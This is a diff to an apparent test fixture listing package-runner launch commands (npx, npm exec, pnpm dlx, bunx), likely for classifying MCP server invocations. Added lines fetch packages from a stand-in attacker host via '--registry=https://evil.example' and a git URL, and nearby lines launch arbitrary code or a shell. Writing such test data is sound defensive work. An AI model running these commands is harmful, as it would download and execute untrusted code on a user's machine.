@@ -18,7 +18,8 @@ npx -y @scope/server@1.2.3 --eval x -c y --registry=https://api.example
 npx @playwright/mcp@latest
 npx --yes --package=@scope/tools some-mcp-server
 npx tsx src/index.ts
-npm exec -y -- server
+npm exec -y -- server --registry=https://api.example
+npm exec -y server DIR -- --flag
 pnpm dlx server@next
 yarn dlx server
 bunx server
@@ -71,6 +72,8 @@ npx -p x node -e CODE
 npx tsx -e CODE
 npx npm install x
 npm run mcp
+npm exec -y server --registry=https://evil.example
+npm x -y server DIR --package=git+https://evil.example/x.git
 pnpm exec sh
 pnpm -C /tmp/x dlx y
 yarn exec sh
